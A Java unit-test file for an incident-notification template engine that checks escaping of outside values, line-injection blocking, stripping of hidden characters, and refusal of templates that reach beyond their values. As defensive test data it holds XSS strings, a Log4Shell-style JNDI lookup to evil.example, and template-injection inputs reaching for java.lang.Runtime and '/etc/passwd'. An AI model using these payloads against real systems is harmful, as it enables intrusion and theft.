package dev.holdfast.notifier.domain.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.holdfast.backbone.events.Severity;
import dev.holdfast.notifier.ShopStory;
import dev.holdfast.notifier.domain.news.Line;
import dev.holdfast.notifier.domain.news.News;
import dev.holdfast.notifier.domain.news.Occasion;
import dev.holdfast.notifier.domain.news.Word;
import dev.holdfast.notifier.domain.route.Audience;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Instant;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;

class TemplateTest {
    private static final Instant AT = Instant.parse("2026-11-20T14:03:27Z");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "</pre><svg onload=alert(1)>",
                "[click me](javascript:alert(1))",
                "![x](http://evil.example/pixel.png)",
                "**Status**: Resolved",
                "`code` ~~gone~~ | table |",
                "# Heading",
                "{{ 7 * 7 }} {% for x in y %}",
                "${jndi:ldap://evil.example/a}",
            })
    void markup_from_outside_stays_text_in_markdown(String hostile) {
        String text = render("{{ title }}", hostile, Format.MARKDOWN);
        assertThat(text).doesNotContainPattern("(?<!\\\\)[<\\[`*#|~]").doesNotContain("<");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "harmless\nStatus: Resolved\n✅ INCIDENT RESOLVED",
                "harmless\r\nStatus: Resolved",
                "harmless\u2028Status: Resolved",
                "harmless\u0085Status: Resolved",
                "harmless\u000bStatus: Resolved",
                "\u001b[2Jharmless Status: Resolved",
            })
    void nobody_outside_can_begin_a_line_of_ours(String hostile) {
        String text =
                render("Title: {{ title }}\nStatus: Rollback in progress", hostile, Format.TEXT);
        assertThat(text.lines()).hasSize(2).noneMatch(l -> l.startsWith("Status: Resolved"));
        assertThat(text).doesNotContain("\u001b");
    }

    @Test
    void characters_that_hide_or_turn_text_are_dropped() {
        assertThat(render("{{ title }}", "ad\u202emin\u200b\u2066x\ufeff", Format.TEXT))
                .isEqualTo("adminx");
    }

    @Test
    void a_value_is_cut_where_it_is_no_longer_read() {
        assertThat(render("{{ title }}", "x".repeat(5_000), Format.TEXT))
                .hasSize(Format.LONGEST + 1)
                .endsWith("…");
    }

    @Test
    void what_looks_like_a_template_inside_a_value_is_not_filled_in() {
        assertThat(render("{{ title }}", "{{ planHash }}", Format.TEXT))
                .isEqualTo("{{ planHash }}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{ title.getClass() }}",
                "{{ title.class.name }}",
                "{{ title.length() }}",
                "{{ ''.getClass().forName('java.lang.Runtime') }}",
                "{{ timeline.size() }}",
                "{% include '/etc/passwd' %}",
                "{% import 'x' %}",
                "{% macro m() %}x{% endmacro %}",
                "{% for i in range(0, 1000000000) %}x{% endfor %}",
                "{{ titel }}",
                "{{ title | raw }}",
                "{% if title %}",
                "{{ title",
            })
    void a_template_that_reaches_further_than_its_values_is_refused(String source) {
        assertThatThrownBy(() -> Template.read(source)).isInstanceOf(Template.Broken.class);
    }

    @Test
    void an_error_names_the_line_although_tags_swallow_line_ends() {
        assertThatThrownBy(() ->
                        Template.read(
                                "a\n{% if title is not empty %}\nb\n{% endif %}\n{{ titel }}"))
                .isInstanceOfSatisfying(
                        Template.Broken.class, e -> assertThat(e.line()).isEqualTo(5));
    }

    @ParameterizedTest
    @EnumSource(Occasion.class)
    void every_occasion_has_words_and_they_start_with_a_subject(Occasion about) {
        Text text =
                new Wording(Map.of())
                        .text(news(about, "Checkout fails"), Audience.ENGINEERS, Format.TEXT)
                        .orElseThrow();
        assertThat(text.subject()).isNotBlank();
        assertThat(text.body()).startsWith(text.subject()).doesNotContain("{", "null");
    }

    @Test
    void words_for_customers_that_break_become_a_draft_with_the_reason_and_no_engineers_words() {
        Template broken =
                Template.read("{% if title == 'Checkout fails' %}{{ 1 / 0 }}{% endif %}Sorry");
        Text text =
                new Wording(Map.of("customers/escalated", broken))
                        .text(
                                news(Occasion.ESCALATED, "Checkout fails"),
                                Audience.CUSTOMERS,
                                Format.TEXT)
                        .orElseThrow();
        assertThat(text.unfinished()).isTrue();
        assertThat(text.remark()).contains("could not be used");
        assertThat(text.body()).doesNotContain("Checkout");
    }

    @Test
    void the_rollback_is_told_in_the_words_of_the_procedures() {
        String text =
                new Wording(Map.of())
                        .text(
                                news(Occasion.ROLLBACK_STARTED, "Checkout fails"),
                                Audience.ENGINEERS,
                                Format.TEXT)
                        .orElseThrow()
                        .body();
        assertThat(text)
                .startsWith("🚨 INCIDENT ALERT")
                .contains(
                        "Status: Rollback in progress",
                        "Severity: High (P1)",
                        "Impact: One in five requests fails",
                        "to version 1.4.1",
                        "ETA: 14:05:00 UTC",
                        "Timeline:\n- 14:03:27 UTC - Issue detected",
                        "14:05:00 UTC - Rollback complete (estimated)",
                        "Next Update: 14:18:27 UTC");
    }

    @Test
    void people_outside_get_words_of_their_own_or_none() {
        Wording wording = new Wording(Map.of());
        assertThat(
                        wording.text(
                                        news(Occasion.RESOLVED, "Checkout fails"),
                                        Audience.CUSTOMERS,
                                        Format.TEXT)
                                .orElseThrow()
                                .body())
                .doesNotContain("Checkout fails", "One in five");
        assertThat(
                        wording.text(
                                news(Occasion.APPROVAL_WANTED, "Checkout fails"),
                                Audience.PRESS,
                                Format.TEXT))
                .isEmpty();
    }

    @Test
    void the_words_of_a_pack_go_before_ours() {
        Wording wording =
                new Wording(
                        Map.of(
                                "resolved",
                                Template.read("Over: {{ title }}"),
                                "management/resolved",
                                Template.read("Done.")));
        assertThat(
                        wording.text(news(Occasion.RESOLVED, "x"), Audience.ENGINEERS, Format.TEXT)
                                .orElseThrow()
                                .body())
                .isEqualTo("Over: x");
        assertThat(
                        wording.text(news(Occasion.RESOLVED, "x"), Audience.MANAGEMENT, Format.TEXT)
                                .orElseThrow()
                                .body())
                .isEqualTo("Done.");
    }

    private static String render(String template, String title, Format format) {
        return Template.read(template).render(news(Occasion.FAILED, title), format).body();
    }

    private static News news(Occasion about, String title) {
        Map<Word, String> words = new EnumMap<>(Word.class);
        for (Word w : Word.values()) {
            words.put(w, w.title());
        }
        words.putAll(
                Map.of(
                        Word.TITLE,
                        title,
                        Word.SEVERITY,
                        "P1",
                        Word.SEVERITY_WORD,
                        "High",
                        Word.IMPACT,
                        "One in five requests fails",
                        Word.TO,
                        "1.4.1",
                        Word.ETA,
                        "14:05:00 UTC",
                        Word.NEXT_UPDATE,
                        "14:18:27 UTC"));
        return new News(
                "e1",
                ShopStory.SHOP,
                about,
                "shop-1",
                Severity.P1,
                AT,
                words,
                List.of(new Line(AT, "Issue detected")));
    }
}
